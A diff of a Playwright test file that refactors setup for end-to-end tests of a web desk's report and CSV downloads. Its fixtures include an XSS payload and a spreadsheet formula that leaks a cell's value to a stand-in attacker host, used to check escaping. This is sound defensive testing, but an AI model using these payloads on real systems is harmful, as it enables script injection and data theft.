@@ -1,12 +1,10 @@
-import { mkdtempSync, readFileSync, rmSync } from "node:fs";
-import { tmpdir } from "node:os";
-import path from "node:path";
+import { readFileSync } from "node:fs";
 import { type Browser, expect, type Page, test } from "@playwright/test";
 import { parse } from "csv-parse/sync";
-import { type SmtpPeer, startSmtpPeer } from "../support/smtp-peer";
-import { sendQuote, signIn, staffCommand } from "./desk-support";
-import { type SpawnedServer, spawnServer } from "./spawned-server";
-import { expectNoAxeViolations, postForm, uniqueClientAddress, viewports } from "./support";
+import type { SmtpPeer } from "../support/smtp-peer";
+import { type DeskSite, newDeskPage, sendQuote, signIn, staffCommand, startDeskSite } from "./desk-support";
+import type { SpawnedServer } from "./spawned-server";
+import { expectNoAxeViolations, postForm, uniqueClientAddress, type viewports } from "./support";
 
 /*
  * The desk's report and CSV downloads in a real browser (docs/desk.md#report-and-downloads), staff
@@ -19,49 +17,29 @@ const XSS = "<img src=x onerror=alert(1)>";
 const CHROME =
   "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36";
 const FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Invoice")';
+let site: DeskSite;
 let peer: SmtpPeer;
 let server: SpawnedServer;
-let dataDir: string;
 let databaseUrl: string;
 let reference = "";
 
-async function newPage(browser: Browser, size: keyof typeof viewports): Promise<Page> {
-  const context = await browser.newContext({
-    viewport: viewports[size],
-    extraHTTPHeaders: { "x-forwarded-for": uniqueClientAddress() },
-    acceptDownloads: true,
-  });
-  const page = await context.newPage();
-  page.on("dialog", (dialog) => {
-    throw new Error(`a dialog fired on a desk page: ${dialog.message()}`);
-  });
-  return page;
-}
+const newPage = (browser: Browser, size: keyof typeof viewports) =>
+  newDeskPage(browser, size, { acceptDownloads: true });
 
 const noWiderThan = async (page: Page, width: number) =>
   expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(width);
 
 test.beforeAll(async () => {
   test.setTimeout(120_000);
-  dataDir = mkdtempSync(path.join(tmpdir(), "desk-report-e2e-"));
-  databaseUrl = `sqlite:${path.join(dataDir, "site.db")}`;
-  peer = await startSmtpPeer();
-  server = await spawnServer(port, {
-    SMTP_URL: peer.url,
-    DATABASE_URL: databaseUrl,
-    SITE_URL: `http://127.0.0.1:${port}`,
-    TRUST_PROXY: "true",
-    ANALYTICS_FLUSH_SECONDS: "1",
-  });
+  site = await startDeskSite(port, "desk-report-e2e-", { ANALYTICS_FLUSH_SECONDS: "1" });
+  ({ peer, server, databaseUrl } = site);
   await staffCommand(databaseUrl, ["add", "owner@example.test", "--role", "owner"]);
   await staffCommand(databaseUrl, ["add", "manager@example.test", "--role", "manager"]);
   await staffCommand(databaseUrl, ["add", "dallas.rep@example.test", "--role", "rep", "--branch", "dallas"]);
 });
 
 test.afterAll(async () => {
-  await server?.stop();
-  await peer?.stop();
-  rmSync(dataDir, { recursive: true, force: true });
+  await site?.stop();
 });
 
 test("the owner reads the report with its charts and speed to lead at 1280 px; what visitors typed is text, in the page and in the CSV", async ({
